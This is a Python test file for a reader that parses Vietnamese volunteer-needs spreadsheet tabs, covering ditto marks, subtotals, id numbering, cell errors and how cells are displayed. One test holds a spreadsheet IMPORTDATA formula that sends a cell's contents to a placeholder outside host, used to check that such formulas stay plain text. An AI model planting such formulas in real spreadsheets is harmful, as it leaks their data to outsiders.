"""A table is read row by row; every problem is collected and no row is lost."""

from datetime import date

import pytest

from functions.domain.records import PROVINCE, Window
from functions.domain.workbook import Cell, CellError
from functions.tables.typed import Source, show_cell
from tests.builders import (
    TAN_BIEN,
    cells_of,
    good,
    grid_tab,
    read_rows,
    read_tab,
    tab,
    table,
    typed_fields,
    where,
)

NEEDS = table("needs")


def test_good_rows_say_nothing() -> None:
    """A good row of every tab is read without a finding."""
    for name in ("needs", "resources", "volunteers", "teams", "trainings", "reports"):
        reading = read_rows(name, good(name))
        assert (name, where(reading.findings), len(reading.rows)) == (name, [], 1)
    for name in ("units", "blocks", "targets", "visits"):
        reading = read_rows(name, good(name), source=Source(PROVINCE))
        assert (name, where(reading.findings), len(reading.rows)) == (name, [], 1)


def test_a_row_means_something() -> None:
    """A row is its place, its id and what each column of people means."""
    (row,) = read_rows("needs", good("needs", sessions="3 buổi", difficulty="-")).rows
    assert (row.index, row.row_id) == (1, "NC-705-001")
    assert row.typed.keys() == {each.name for each in typed_fields(NEEDS)}
    assert (row.typed["commune"], row.typed["sessions"], row.typed["difficulty"]) == (
        "25489",
        3,
        None,
    )
    assert row.typed["date_range"] == Window(date(2024, 8, 5), date(2024, 8, 7))


def test_all_problems_of_all_rows() -> None:
    """Every wrong cell is a finding at its own place, in the order of the sheet."""
    reading = read_rows(
        "needs",
        good("needs", 1, commune="Hà Nội", volunteers_needed="8 người"),
        good("needs", 2, expected_beneficiaries="~200", contact_phone="091"),
        good("needs", 3, topics=None),
    )
    assert where(reading.findings) == [
        ("unknown_unit", 1, "commune"),
        ("approximate", 2, "expected_beneficiaries"),
        ("bad_phone", 2, "contact_phone"),
        ("missing", 3, "topics"),
    ]
    place = reading.findings[0].place
    assert (place.unit, place.table, place.row_id) == ("705", "needs", "NC-705-001")
    assert (place.sheet_id, place.column) == (102, NEEDS.column("commune"))
    assert reading.findings[0].value == "Hà Nội"
    assert reading.findings[3].data["column"] == "Nội dung đề nghị hỗ trợ"


def test_a_tab_that_cannot_be_read() -> None:
    """Without its tab a table has no rows and keeps the finding."""
    reading = read_tab(tab(table("reports")), NEEDS)
    assert (reading.located, reading.rows, where(reading.findings)) == (
        None,
        (),
        [("tab_missing", None, "")],
    )


def test_ditto_is_the_row_above() -> None:
    """«nt» repeats the data row above, through a chain and over blank lines."""
    reading = read_rows(
        "needs",
        good("needs", 1, place="Ấp 1"),
        {"need_id": "NC-705-002"},
        good("needs", 3, place="nt", date_range='"', expected_beneficiaries="nt"),
        good("needs", 4, place="như trên"),
    )
    assert reading.findings == ()
    assert [row.typed["place"] for row in reading.rows] == ["Ấp 1"] * 3
    assert reading.rows[1].typed["expected_beneficiaries"] == 200


@pytest.mark.parametrize("above", [None, "không rõ"])
def test_ditto_never_skips_a_row(above: Cell) -> None:
    """«nt» below an empty or a wrong cell has nothing to repeat, whatever stands further up."""
    reading = read_rows(
        "needs",
        good("needs", 1, sessions=3),
        good("needs", 2, sessions=above),
        good("needs", 3, sessions="nt"),
    )
    assert where(reading.findings)[-1] == ("no_previous", 3, "sessions")
    assert reading.rows[2].typed["sessions"] is None


def test_new_ids_lie_above_all_numbers_in_use() -> None:
    """Rows without an id are numbered above every number of the tab, blank rows included."""
    reading = read_rows(
        "needs",
        good("needs", 3),
        good("needs", need_id=None),
        {"need_id": "NC-705-040"},
        good("needs", need_id=" "),
        {"need_id": "VD", "place": "x"},
        {},
    )
    assert reading.new_ids == {2: "NC-705-041", 4: "NC-705-042"}
    assert [row.row_id for row in reading.rows] == ["NC-705-003", "NC-705-041", "NC-705-042"]
    assert reading.findings == ()


def test_new_ids_of_an_empty_tab_begin_at_one() -> None:
    """The first row that somebody types into a tab without numbers gets number one."""
    reading = read_rows("teams", good("teams", team_id=None), source=Source(PROVINCE))
    assert reading.new_ids == {1: "DH-T-01"}


def test_an_id_that_people_must_give_is_asked_for() -> None:
    """Where people give the ids, a row without one is a finding and gets no number."""
    reading = read_rows("units", good("units", code=None), source=Source(PROVINCE))
    assert (reading.new_ids, where(reading.findings)) == ({}, [("missing", 1, "code")])


def test_an_id_alone_is_a_row_to_complete() -> None:
    """A unit of which only the code was typed is asked for everything it needs."""
    reading = read_rows("blocks", {"block": "Khối 1"}, source=Source(PROVINCE))
    assert where(reading.findings) == [
        ("missing", 1, "board"),
        ("missing", 1, "officer"),
        ("missing", 1, "email"),
    ]


def test_subtotals_are_said_and_not_read() -> None:
    """A sum is a hint at its first filled cell and no row."""
    reading = read_rows("needs", {"need_id": None, "commune": "Cộng:", "volunteers_needed": 85})
    assert (reading.rows, where(reading.findings)) == ((), [("subtotal_row", 1, "")])
    assert (reading.findings[0].place.column, reading.findings[0].value) == (2, "Cộng:")


def test_rows_of_layout_are_said_one_by_one() -> None:
    """What is left out is a hint with its words and its kind, at the words, with the row's id."""
    reading = read_rows(
        "needs",
        {"need_id": "NC-705-001", "commune": "I. Khối xã"},
        {"need_id": "DANH SÁCH NHU CẦU"},
        {"place": "Ghi chú: chưa đủ"},
        {"place": "Người lập biểu"},
    )
    assert reading.rows == ()
    assert where(reading.findings) == [("row_left_out", row, "") for row in (1, 2, 3, 4)]
    found = [(each.value, each.data["kind"], each.place.row_id) for each in reading.findings]
    assert found == [
        ("I. Khối xã", "dòng nhóm", "NC-705-001"),
        ("DANH SÁCH NHU CẦU", "dòng tên bảng", ""),
        ("Ghi chú: chưa đủ", "dòng ghi chú", ""),
        ("Người lập biểu", "dòng ký tên", ""),
    ]
    assert [each.place.column for each in reading.findings] == [2, 0, 3, 3]


def test_what_every_row_was_taken_for() -> None:
    """Each row that is not blank is listed with its kind, by its place."""
    titles = {each.name: each.title for each in typed_fields(NEEDS)}
    reading = read_rows(
        "needs",
        {"need_id": "VD", "place": "x"},
        good("needs", 1),
        {"need_id": "NC-705-002"},
        titles,
        {"commune": "Cộng:"},
        {"commune": "II. Khối xã"},
    )
    kinds = {row: kind.value for row, kind in reading.kinds.items()}
    assert kinds == {1: "example", 2: "data", 4: "header", 5: "subtotal", 6: "section"}
    assert reading.declared_none is None


def test_a_unit_that_has_none() -> None:
    """«Không có nhu cầu» is an answer: no row, nothing missing, and its place is known."""
    reading = read_rows("needs", {}, {"need_id": "NC-705-001", "commune": "Không có nhu cầu"})
    assert (reading.rows, reading.findings, reading.declared_none) == ((), (), 2)


def test_ditto_goes_over_the_names_of_groups() -> None:
    """«nt» below the name of a group repeats the last row above it."""
    reading = read_rows(
        "needs",
        good("needs", 1, place="Ấp 1"),
        {"commune": "II. Khối xã"},
        good("needs", 3, place="nt"),
    )
    assert [row.typed["place"] for row in reading.rows] == ["Ấp 1", "Ấp 1"]


def test_ids_that_are_none() -> None:
    """What was pasted over the id of a good row stays its id; the row is read all the same."""
    rows = [good("needs", need_id=each) for each in ("dán nhầm", 45488, "Tổng cộng", True)]
    reading = read_rows("needs", *rows)
    assert [each.row_id for each in reading.rows] == ["dán nhầm", "45488", "Tổng cộng", "True"]
    assert reading.findings == ()


def test_headers_blank_rows_and_examples_are_passed_over() -> None:
    """Only data becomes rows; nothing is said about what is left alone."""
    titles = {each.name: each.title for each in typed_fields(NEEDS)}
    reading = read_rows(
        "needs", {"need_id": "VD", **titles}, {"need_id": "NC-705-001"}, titles, good("needs", 2)
    )
    assert [row.row_id for row in reading.rows] == ["NC-705-002"]
    assert reading.findings == ()


def test_errors_in_cells() -> None:
    """A formula's error in a cell is shown as people see it."""
    reading = read_rows("needs", good("needs", place=CellError("#REF!"), sessions="#N/A"))
    assert where(reading.findings) == [("sheet_error", 1, "place"), ("sheet_error", 1, "sessions")]
    assert [each.value for each in reading.findings] == ["#REF!", "#N/A"]


def test_cells_of_fifty_thousand_characters() -> None:
    """A cell that Google would just allow is refused in every column, and shown shortened."""
    row = {each.name: "nt " * 16_666 for each in typed_fields(NEEDS)}
    reading = read_rows("needs", {"need_id": "NC-705-001", **row})
    assert where(reading.findings) == [("too_long", 1, each.name) for each in typed_fields(NEEDS)]
    assert {len(each.value) for each in reading.findings} == {80}


def test_the_text_of_a_formula_is_text() -> None:
    """A formula that was typed as text is kept as the words it is."""
    text = '=IMPORTDATA("https://x.example/?q="&A1)'
    (row,) = read_rows("needs", good("needs", place=text, note=text)).rows
    assert (row.typed["place"], row.typed["note"]) == (text, text)


def test_a_column_that_is_gone_is_empty() -> None:
    """Without a column that may be empty, rows are read as if nothing was typed there."""
    at = NEEDS.column("place")
    rows = [[each.title for each in NEEDS.fields], list(cells_of(NEEDS, good("needs")))]
    reading = read_tab(grid_tab(NEEDS, [row[:at] + row[at + 1 :] for row in rows]), NEEDS)
    assert reading.rows[0].typed["place"] is None
    assert where(reading.findings) == [("column_gone", None, "place")]


@pytest.mark.parametrize(
    ("cell", "kind", "shown"),
    [
        (None, "text", ""),
        (True, "text", "x"),
        (CellError("#N/A"), "date", "#N/A"),
        (45488, "date", "15/07/2024"),
        (45488.5, "date_range", "15/07/2024"),
        (45488, "int", "45.488"),
        (12, "date", "12"),
        (912345678, "phone", "912345678"),
        (2020, "birth_year", "2020"),
        (2004.5, "birth_year", "2.004,5"),
        (float("inf"), "phone", "inf"),
        ("x" * 80, "text", "x" * 80),
        ("x" * 81, "text", "x" * 79 + "…"),
        ("072204001234", "phone", "072…"),
        ("An, 072 204 001 234", "person", "An, 072…"),
        ("0084912345678", "phone", "0084912345678"),
    ],
)
def test_shown_cells(cell: Cell, kind: str, shown: str) -> None:
    """A cell is shown as in the sheet: dates as dates, years and phones without grouping."""
    assert show_cell(cell, kind) == shown


def test_rows_know_whose_they_are() -> None:
    """A commune of another unit is refused in this unit's workbook and taken in the province's."""
    here = read_rows("reports", good("reports", commune="Tân Hà"), source=TAN_BIEN)
    there = read_rows("reports", good("reports", commune="Tân Hà"), source=Source("706", "706"))
    assert where(here.findings) == [("wrong_parent", 1, "commune")]
    assert there.findings == ()
